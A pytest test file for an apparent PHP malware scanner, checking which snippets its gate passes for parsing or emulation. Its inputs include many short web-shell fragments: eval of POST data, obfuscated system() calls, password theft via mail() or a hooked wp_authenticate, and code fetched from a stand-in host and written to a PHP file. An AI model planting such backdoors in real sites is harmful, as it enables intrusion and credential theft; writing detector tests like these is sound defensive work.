from __future__ import annotations

import pytest

from pratique.content.php.gate import Look


@pytest.mark.parametrize(
    "source",
    [
        b"eval($_POST[1]);",
        b"EVAL /**/ (BASE64_DECODE('a'));",
        b"$f($_GET['x']);",
        b"('sys'.'tem')('x');",
        b"array_map('assert', $_POST);",
        b"echo `$_GET[c]`;",
        b'include "\\x2ftmp\\x2fx";',
        b"include 'x.png';",
        b"eval(file_get_contents('http://b.example'));",
        b"fwrite($h, $_POST['a']);",
        b"mail($a, 's', $_POST['pass']);",
        b'${"_G"}["x"]("y");',
        b"mb_ereg_replace('.*', $_POST['c'], '', 'e');",
        b"$z->extractTo($_POST['d']);",
        b"$o = new SplFileObject($_GET['f'], 'w');",
        b"$s->fetchAll(PDO::FETCH_FUNC, strrev('tressa'));",
        b"$e = $p{4}.$p[21] . $p[0].$p[11]; $e($x);",
        b"FFI::cdef('x')->system($_GET['c']);",
        b"move_uploaded_file($f, 'a.php');",
        b"mail($a, 's', $_SESSION['pass']);",
        b"($m)($_GET['c']);",
        b"function wp_authenticate($u, $p) { fwrite($h, $p); }",
        b"$u = 'http://b.example'; fwrite(fopen('a.php', 'w'), file_get_contents($u));",
        b"$x = 'a';" + b" " * 120 + b"f();",
    ],
)
def test_lets_in(source):
    assert Look.at(b"<?php " + source).worth_parsing()


@pytest.mark.parametrize(
    "source",
    [
        b"class A { function b() { return 1; } }",
        b"echo htmlspecialchars($_GET['q']);",
        b"include 'header.php';",
        b"// evaluates the retrieval of $_POST",
        b"$x = base64_decode($y);",
        b"$wpdb->query('SELECT `a` FROM b');",
    ],
)
def test_leaves_out(source):
    assert not Look.at(b"<?php " + source).worth_parsing()


@pytest.mark.parametrize(
    "source",
    [
        b"eval(base64_decode('AAAA'));",
        b"EVAL(GZINFLATE($x));",
        b"$f = strrev('metsys'); $f('x');",
        b"$f = 'sys' . 'tem'; $f('x');",
        b"$f = str_replace('q', '', 'sqyqsqtqem'); $f('x');",
        b"$f = ('a' ^ '$x'); $f('x');",
        b"array_map(implode('', ['sys', 'tem']), $_POST);",
        b"include base64_decode('L3RtcC94');",
        b'include "\\x2f\\x74\\x6dp";',
        b'${"_G" . "ET"}["x"]("y");',
        b"$f = chr(115).chr(121).chr(115).chr(116); new $f('x');",
        b"preg_replace('/.*/e', base64_decode('AAAA'), '');",
        b"eval(substr(file_get_contents(__FILE__), 90));" + b" " * 20_000,
    ],
)
def test_is_worth_emulating(source):
    assert Look.at(b"<?php " + source).worth_emulating()


@pytest.mark.parametrize(
    "source",
    [
        b"",
        b"eval($_POST['c']);" + b" " * 20_000,  # nothing is hidden: the text is read
        b"assert(is_string($_GET['a']));",
        b"$f = $_GET['f']; $f();",
        b"$x = base64_decode($row['data']); echo $x;",  # nothing runs it
        b"echo 'a' . 'b';",
        b"echo implode(',', $names);",
        b"class A { function b() { return 1; } }",
        b"include 'header.php';",
        # in a long program, pieces that are put together are nothing unusual
        b"echo implode(',', $names); $f($x);" + b" " * 20_000,
        b"echo 'a' . 'b'; $f($x);" + b" " * 20_000,
    ],
)
def test_is_not_worth_emulating(source):
    assert not Look.at(b"<?php " + source).worth_emulating()
